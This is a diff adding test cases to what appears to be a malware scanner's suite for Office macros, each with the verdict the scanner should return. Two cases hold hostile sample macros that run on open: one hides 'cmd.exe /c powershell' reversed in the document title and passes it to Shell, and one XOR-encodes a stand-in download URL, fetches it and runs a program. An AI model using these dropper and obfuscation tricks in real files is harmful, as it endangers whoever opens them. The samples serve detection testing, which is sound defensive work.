@@ -254,6 +254,52 @@ def office_stomped_control():
 
 
 @case
+def office_macro_property():
+    """The command is the document's title, backwards."""
+    properties = bytes(40) + b"c- llehsrewop c/ exe.dmc" + bytes(9)
+    document = office.word({"ThisDocument": '''
+Sub AutoOpen()
+    t = ActiveDocument.BuiltInDocumentProperties("Title")
+    Shell Reversed(t), 0
+End Sub'''}, extra={"\5SummaryInformation": properties})
+    return with_file("letter.doc", document), dict(
+        verdict="malware", action="quarantine",
+        symbols=["OFFICE_MACRO_HIDES", "OFFICE_MACRO_DROPPER"])
+
+
+@case
+def office_macro_property_control():
+    """A title, and a macro that shows it and prints."""
+    properties = bytes(40) + b"How to use PowerShell at work" + bytes(9)
+    document = office.word({"ThisDocument": '''
+Sub AutoOpen()
+    MsgBox ActiveDocument.BuiltInDocumentProperties("Title")
+    ActiveDocument.PrintOut
+End Sub'''}, extra={"\5SummaryInformation": properties})
+    return with_file("letter.doc", document), dict(
+        verdict="clean", action="allow",
+        only=["OFFICE_MACRO", "OFFICE_MACRO_AUTORUN"])
+
+
+@case
+def office_macro_decoded():
+    """Its own loop would decode it: numbers that were XORed."""
+    numbers = ", ".join(str(b ^ 0x2a) for b in
+                        b"https://host.example/a.bin")
+    document = office.word({"ThisDocument": '''
+Sub AutoOpen()
+    For Each n In Array(%s)
+        u = u & Chr(n Xor k)
+    Next
+    Fetch u
+    Shell "x", 0
+End Sub''' % numbers})
+    return with_file("letter.doc", document), dict(
+        verdict="suspicious", action="flag",
+        symbols=["OFFICE_MACRO_STARTS_PROGRAM"])
+
+
+@case
 def office_macro_lost():
     """The list of modules is damaged, and the source is where it does not
     belong: found all the same."""
